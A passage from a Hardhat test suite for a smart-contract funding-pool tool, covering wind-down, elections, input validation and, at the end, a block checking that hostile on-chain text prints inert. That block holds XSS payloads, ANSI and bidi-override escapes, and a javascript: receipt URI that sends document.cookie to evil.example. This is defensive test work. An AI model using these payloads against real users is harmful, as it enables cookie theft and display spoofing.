      const windDownAt = (await pool.seat()).openedAt + 2n * 3600n; // the 2h vacancy
      await connection.networkHelpers.time.increaseTo((votingEndsAt > windDownAt ? votingEndsAt : windDownAt) + 10n);
      expect(await ok("pool:wind-down", { pool: "4" })).to.match(/0\.3 ETH is left; each contributor can reclaim their share/);
      const before = await connection.ethers.provider.getBalance(signers[7].address);
      expect(await ok("pool:reclaim", { pool: "4", from: "7" })).to.match(/Reclaimed 0\.1 ETH from Bike Kitchen/);
      expect(await connection.ethers.provider.getBalance(signers[7].address)).to.be.greaterThan(before);
      await fails("pool:reclaim", { pool: "4", from: "7" }, /has nothing to reclaim here/);
      await fails("pool:give", { pool: "4", amount: "0.1" }, /This pool has wound down/);
    });
  });

  describe("the seat through the tasks: step down, call an election", function () {
    // The Tool Library (pool #5, created above by account #0): no gifts, epochs of 2h.
    it("pool:step-down opens the seat and an election", async function () {
      const pool = await poolAt(5);
      await fails("pool:step-down", { pool: "5", from: "1" }, new RegExp(`Only the pool's maintainer can do this, and ${signers[1].address} is not the maintainer\\.`));
      const out = await ok("pool:step-down", { pool: "5" });
      expect(out).to.match(new RegExp(`✓ Stepped down as maintainer of Tool Library \\(${signers[0].address}\\)`));
      expect(out).to.match(/The seat is open\. Election #1 takes nominations \(`pool:nominate`\) until .* UTC \(in \d+h.*\); voting runs from then to .* UTC\./);
      expect(await pool.maintainer()).to.equal(connection.ethers.ZeroAddress);
      expect((await pool.seat())[0]).to.equal(SeatStatus.Open);
      const [id, phase] = await pool.election();
      expect([id, phase]).to.deep.equal([1n, ElectionPhase.Nominating]);
      await fails("pool:step-down", { pool: "5" }, new RegExp(`Only the pool's maintainer can do this, and ${signers[0].address} is not the maintainer\\.`));
      await fails("pool:step-down", { pool: "5", calldata: true }, /Tool Library has no maintainer: the seat is open/);
    });

    it("pool:call-election opens an election on an open seat once the last one is over, or on an abandoned one", async function () {
      const pool = await poolAt(5);
      await fails("pool:call-election", { pool: "5" }, /Election #1 is already open: once its voting epoch is over, finalizing it \(`pool:finalize`\) closes it\./);
      await fails("pool:call-election", { pool: "1" }, /The maintainer is active: the seat counts as abandoned only from .* UTC \(in \d+d/);
      await fails("pool:call-election", { pool: "3" }, /This pool has wound down/);
      const [, , , votingEndsAt] = await pool.election();
      await connection.networkHelpers.time.increaseTo(votingEndsAt + 10n);
      expect(await ok("pool:finalize", { pool: "5" })).to.match(/No candidate reached the quorum/);
      const out = await ok("pool:call-election", { pool: "5", from: "3" });
      expect(out).to.match(/✓ Called an election in Tool Library/);
      expect(out).to.match(/Election #2 takes nominations \(`pool:nominate`\) until .* UTC \(in \d+h/);
      const [id, phase] = await pool.election();
      expect([id, phase]).to.deep.equal([2n, ElectionPhase.Nominating]);
      expect((await pool.seat())[0]).to.equal(SeatStatus.Open);

      // A filled seat whose maintainer went silent for the inactivity period (90 days in Tiny Type Checker).
      const typeChecker = await poolAt(0);
      const [, lastActive] = await typeChecker.seat();
      await connection.networkHelpers.time.increaseTo(lastActive + (await typeChecker.rules()).inactivityPeriod);
      const abandoned = await ok("pool:call-election", { pool: "0", from: "9" });
      expect(abandoned).to.match(new RegExp(`The maintainer ${signers[1].address} had been inactive since .* UTC: the seat is now open\\.`));
      expect(abandoned).to.match(/Election #1 takes nominations/);
      expect(await typeChecker.maintainer()).to.equal(connection.ethers.ZeroAddress);
      expect((await typeChecker.seat())[0]).to.equal(SeatStatus.Open);
      expect((await typeChecker.election())[1]).to.equal(ElectionPhase.Nominating);
    });
  });

  describe("bad input", function () {
    it("an unknown pool: no code there, not from this factory, no such number, not an address", async function () {
      await fails("pool:give", { pool: "0x000000000000000000000000000000000000dEaD", amount: "1" }, /Unknown pool: there is no contract at 0x000000000000000000000000000000000000dEaD/);
      const token = (await deployment()).contracts.MockUSD!.address;
      await fails("pool:status", { pool: token }, /Unknown pool: 0x.* is a contract, but not a pool created by the Potluck factory/);
      await fails("pool:status", { pool: "99" }, /There is no pool #99 on network .*: the factory has created 6/);
      await fails("pool:status", { pool: "my pool" }, /"my pool" is not a pool: give its address/);
    });

    it("a malformed amount, in the pool's own unit", async function () {
      await fails("pool:give", { pool: "0", amount: "abc" }, /"abc" is not an amount: write it in ETH, e\.g\. "0\.05 ETH"/);
      await fails("pool:give", { pool: "0", amount: "1e18" }, /scientific notation/);
      await fails("pool:give", { pool: "1", amount: "20 ETH" }, /"20 ETH" is in ETH, but this pool holds mUSD/);
      await fails("pool:give", { pool: "1", amount: "0.0000001" }, /has 7 decimals, but mUSD has only 6/);
      await fails("pool:give", { pool: "0", amount: "20000 ETH" }, /holds only [\d,.]+ ETH; the gift is 20,000 ETH/);
    });

    it("a wrong network: no deployment recorded for its chain id, or a stale one", async function () {
      const undo = useSession({ deploymentsDir: path.join(dir, "elsewhere") });
      try {
        await fails("pool:list", {}, /Potluck is not deployed on network ".*" \(chain 31337\): there is no .*31337\.json\. Deploy first with `npx hardhat deploy --network/);
      } finally {
        undo();
      }
      const other = await network.create();
      const undoOther = useSession({ connection: other });
      try {
        await fails("pool:list", {}, /The PoolFactory recorded for chain 31337 .* has no code on network/);
      } finally {
        undoOther();
        await other.close();
      }
    });

    it("a missing key: no such account, a network without accounts, a key not in the keystore", async function () {
      await fails("pool:give", { pool: "0", amount: "0.01", from: "42" }, /Missing key: network ".*" has 20 account\(s\) \(#0 to #19\); there is no #42\./);
      await fails("pool:give", { pool: "0", amount: "0.01", from: "0x000000000000000000000000000000000000bEEF" }, /Missing key: network ".*" has no key for 0x000000000000000000000000000000000000bEEF/);

      // A node of its own (a JSON-RPC server on a fresh in-process chain), with Potluck deployed on it.
      const server = await hre.network.createServer("default", "127.0.0.1", 0);
      const { port } = await server.listen();
      const url = `http://127.0.0.1:${port}`;
      const deploymentsDir = path.join(dir, "server-deployments");
      const keyed = await network.create({ network: "localhost", override: { url } });
      const keyless = await network.create({ network: "localhost", override: { url, accounts: [] } });
      const saved = { url: process.env.POTLUCK_RPC_URL, key: process.env.POTLUCK_DEPLOYER_KEY };
      const undo = useSession({ connection: keyed, deploymentsDir });
      try {
        await ok("deploy");
        // A network without any account: reading works, signing names the missing key.
        useSession({ connection: keyless, deploymentsDir });
        expect(await ok("pool:list")).to.include("No pools yet");
        await fails("pool:create", { name: "Keyless" }, /Missing key: network ".*" has no account to sign with\. .*keystore set POTLUCK_DEPLOYER_KEY/);
        await fails("deploy", {}, /Missing key: network ".*" has no account to sign with/);

        // The `remote` network of hardhat.config.ts, its RPC URL set, its key nowhere.
        process.env.POTLUCK_RPC_URL = url;
        delete process.env.POTLUCK_DEPLOYER_KEY;
        useSession({ connection: undefined, network: "remote", deploymentsDir });
        await fails("pool:create", { name: "No key" }, /Missing key: POTLUCK_DEPLOYER_KEY is not set for network remote\. Store it in Hardhat's keystore with `npx hardhat keystore set POTLUCK_DEPLOYER_KEY`/);
        await fails("deploy", {}, /Missing key: POTLUCK_DEPLOYER_KEY/);
        // A dry run needs no key either.
        expect(await ok("deploy", { dryRun: true })).to.match(/from 0x0{40} \(no key configured: estimates only\)[\s\S]*would be reused/);
        // Reading needs no key: status gets to the pool lookup.
        await fails("pool:status", { pool: "0" }, /There is no pool #0 on network "remote": the factory has created 0/);
      } finally {
        undo();
        if (saved.url === undefined) delete process.env.POTLUCK_RPC_URL;
        else process.env.POTLUCK_RPC_URL = saved.url;
        if (saved.key !== undefined) process.env.POTLUCK_DEPLOYER_KEY = saved.key;
        await keyed.close();
        await keyless.close();
        await server.close();
      }
    });

    it("the seed needs the demo token of the local deployment", async function () {
      const { seedDemo } = await import("../scripts/lib/seed.js");
      const record = await deployment();
      let message = "";
      try {
        await seedDemo(connection, { ...record, contracts: { ...record.contracts, MockUSD: undefined } });
      } catch (error) {
        message = (error as Error).message;
      }
      expect(message).to.match(/The deployment has no MockUSD: deploy again on the local chain/);
    });
  });
  // Issue 20: a pool created straight through the factory (the command line checks its own input, an attacker
  // does not use it) whose every text is hostile. pool:list and pool:status must print it inert.
  describe("text from the chain is shown inert", function () {
    const ESC = "\u001b";
    const NAME = `Evil \u202Egnp.exe <img src=x onerror=alert(1)> ${ESC}[2J ${ESC}[1;31m SEND ETH TO 0xBAD ${ESC}[0m`;
    const LINE = `<b>line</b>${ESC}[2Jx`;
    const metadata = {
      name: NAME,
      description: `<script>alert(1)</script>\u202E ${ESC}]0;pwned${ESC}\\ second line\nthird ${ESC}[1;31mred`,
      links: ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", "https://example.org/evil"],
    };
    // Every C0 and C1 control (ESC among them), DEL, and the bidi marks, embeddings, overrides and isolates.
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
    let index: number;

    before(async function () {
      const f = await factory();
      const maintainer = signers[1];
      const config = defaultConfig(maintainer.address, { metadataURI: encodeMetadata(metadata), inKindWeightBps: 1_000 });
      await (await f.connect(signers[0]).createPool(config, [{ name: LINE, cap: 10n ** 18n, period: 30n * 86_400n }])).wait();
      index = Number(await f.poolCount()) - 1;
      const pool = await poolAt(index);
      await (await pool.connect(signers[2]).give(10n ** 17n, { value: 10n ** 17n })).wait();
      const receiptURI = "javascript:fetch('https://evil.example/'+document.cookie)";
      await (await pool.connect(maintainer).fileClaim(0, 10n ** 16n, maintainer.address, connection.ethers.id("evil receipt"), receiptURI)).wait();
      await (await pool.connect(signers[3]).pledge(`${ESC}[2J\u202Etpircs <script>`, 10n ** 15n, 86_400n, 3)).wait();
    });

    it("pool:list prints the name without escapes or overrides, cut so the address stays in view", async function () {
      const list = await ok("pool:list");
      expect(list).to.not.match(UNSAFE);
      const row = list.split("\n").find((l) => l.includes("gnp.exe"))!;
      expect(row).to.include("Evil \uFFFDgnp.exe <img src=x");
      expect(row).to.match(/…/);
      expect(row).to.include(await (await factory()).poolAt(index));
    });

    it("pool:status prints names, description, line names, receipts and pledges inert, and no link but http(s) or ipfs", async function () {
      const status = await ok("pool:status", { pool: String(index) });
      expect(status).to.not.match(UNSAFE);
      expect(status).to.include("Evil \uFFFDgnp.exe <img src=x onerror=alert(1)> \uFFFD[2J");
      expect(status).to.include("<script>alert(1)</script>\uFFFD \uFFFD]0;pwned");
      expect(status).to.include("  third \uFFFD[1;31mred");
      expect(status).to.match(/^ {2}https:\/\/example\.org\/evil$/m);
      // A javascript: or data: link is printed as text, marked as not a link, never on a line of its own.
      const links = status.split("\n").filter((l) => /javascript:|data:/.test(l));
      expect(links).to.have.length(3);
      for (const l of links) expect(l).to.include("(not a link: only https, http and ipfs links are shown as links)");
      expect(status).to.match(/#0 receipt: javascript:fetch\('https:\/\/evil\.example\/'\+document\.cookie\) \(not a link/);
      expect(status).to.match(/0 +<b>line<\/b>\uFFFD\[2Jx +1 ETH \/ 30d/);
      expect(status).to.include('#0 offered: "\uFFFD[2J\uFFFDtpircs <script>" by');
    });

    it("the sentences of errors show line names inert too", async function () {
      const receipt = path.join(dir, "evil-receipt.txt");
      await writeFile(receipt, "another receipt");
      const r = await run("pool:claim", { pool: String(index), line: "0", amount: "5 ETH", receipt, from: "1" });
      expect(r.success).to.equal(false);
      expect(r.err).to.not.match(UNSAFE);
      expect(r.err).to.include('Budget line 0 ("<b>line</b>\uFFFD[2Jx") has only');
    });
  });
});
